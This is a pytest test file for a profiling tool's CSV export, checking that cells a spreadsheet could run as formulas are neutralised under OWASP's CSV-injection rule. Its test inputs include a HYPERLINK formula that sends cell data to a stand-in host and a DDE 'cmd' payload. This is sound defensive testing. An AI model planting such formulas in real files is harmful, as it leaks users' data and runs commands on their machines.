"""dpprof.csvfile: CSV cells a spreadsheet could run as a formula are neutralised, by OWASP's CSV-injection rule.

A cell is prefixed with ' when it begins with TAB, CR or LF, or when its first character past any whitespace
and control characters is = + - or @. Checked on cells alone, and on a run the CPU backend records with such a
name, exported by `dpprof export` and by the dashboard's table CSV.
"""
from __future__ import annotations

import csv
import io

import pandas as pd
import pytest
from recorded import record

from dpprof.cli import main
from dpprof.csvfile import formula_like, neutralize_formulas, to_csv_bytes
from dpprof.views import export

LINK = '=HYPERLINK("http://198.51.100.7/?leak="&A1,"open")'


@pytest.mark.parametrize("cell", [
    "=1+1", "+1", "-1", "@SUM(A1)", LINK,
    "\t" + LINK, "\r" + LINK, "\n" + LINK, "\r\n=1", " =1", "   @x", "\u00a0=1", "\u3000+1",
    "\x00=1", "\x0b-1", "\x1f@x", "\x7f=1", " \t =cmd|' /C calc'!A0",
    "\tplain",  # OWASP: any cell that begins with a TAB or a CR
    "\rplain", "\nplain",
])
def test_formula_like_cells_are_prefixed(cell):
    assert formula_like(cell)
    out = neutralize_formulas(pd.DataFrame({"name": [cell]}))
    assert out.loc[0, "name"] == "'" + cell


@pytest.mark.parametrize("cell", ["plain", "cpu:0", "a=b", "x-1", "mail@example.com", "", " plain", "1e3", "'=x"])
def test_other_cells_are_left_as_they_are(cell):
    assert not formula_like(cell)
    assert neutralize_formulas(pd.DataFrame({"name": [cell]})).loc[0, "name"] == cell


def test_numbers_and_missing_values_are_never_prefixed():
    df = pd.DataFrame({"n": [-1.5, 2.0], "i": [-3, 4], "o": [None, -2]})
    pd.testing.assert_frame_equal(neutralize_formulas(df), df)


def test_a_csv_cell_reads_back_as_the_prefixed_text():
    data = to_csv_bytes(pd.DataFrame({"name": ["\t" + LINK, "ok"]}))
    rows = list(csv.reader(io.StringIO(data.decode())))
    assert rows == [["name"], ["'\t" + LINK], ["ok"]]


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory):
    """A run the CPU backend records, named with a TAB and a formula."""
    return record(tmp_path_factory.mktemp("reports"), "\t" + LINK, workers=2, steps=3, batch_size=8,
                  workload="tutorial-linear")


def test_a_runs_name_with_a_tab_and_a_formula_is_neutralised_in_every_export(hostile_run, tmp_path, capsys):
    run = hostile_run
    assert run.meta["name"] == "\t" + LINK  # recorded as given
    meta = pd.read_csv(io.BytesIO(export.table_csv(run, "run")), keep_default_na=False)
    assert meta.loc[0, "name"] == "'\t" + LINK
    assert main(["export", str(run.path), "--out", str(tmp_path / "csv")]) == 0
    capsys.readouterr()
    written = pd.read_csv(tmp_path / "csv" / "run.csv", keep_default_na=False)
    assert written.loc[0, "name"] == "'\t" + LINK
    for path in (tmp_path / "csv").glob("*.csv"):  # no cell of any table begins as a formula
        for row in csv.reader(io.StringIO(path.read_text())):
            assert not any(formula_like(cell) and not _number(cell) for cell in row), (path.name, row)


def _number(cell: str) -> bool:
    """A numeric column's cell (-0.25): a number, not text a spreadsheet would run."""
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_an_export_into_a_directory_of_another_runs_export_leaves_only_its_own_tables(hostile_run, tmp_path, capsys):
    """`dpprof export RUN --out csv` for one run and then another (as the README's quick start writes it): the
    directory holds the second run's tables only; the first's tables the second has none of (an imported trace's
    operators.csv, kernels.csv, ...) went with it, instead of sitting beside them as if they were its. A user's own
    file there stays."""
    from pathlib import Path

    from dpprof.trace import import_traces

    trace = Path(__file__).resolve().parents[1].parent / "shared" / "traces" / "resnet50-1gpu-tb-sample.pt.trace.json.gz"
    imported = import_traces([trace], tmp_path / "reports")
    out = tmp_path / "csv"
    assert main(["--reports-dir", str(tmp_path / "reports"), "export", imported.id, "--out", str(out)]) == 0
    assert (out / "operators.csv").is_file() and (out / "kernels.csv").is_file()
    (out / "notes.txt").write_text("mine")
    (tmp_path / "mine").mkdir()
    (tmp_path / "mine" / "kernels.csv").write_text("name\nmy own table\n")  # no export was there: left alone
    assert main(["export", str(hostile_run.path), "--out", str(tmp_path / "mine")]) == 0
    assert (tmp_path / "mine" / "kernels.csv").read_text() == "name\nmy own table\n"
    assert main(["export", str(hostile_run.path), "--out", str(out)]) == 0
    capsys.readouterr()
    assert sorted(p.stem for p in out.glob("*.csv")) == sorted(export.exported(hostile_run))
    assert (out / "notes.txt").read_text() == "mine"
    assert pd.read_csv(out / "run.csv", keep_default_na=False).loc[0, "id"] == hostile_run.id
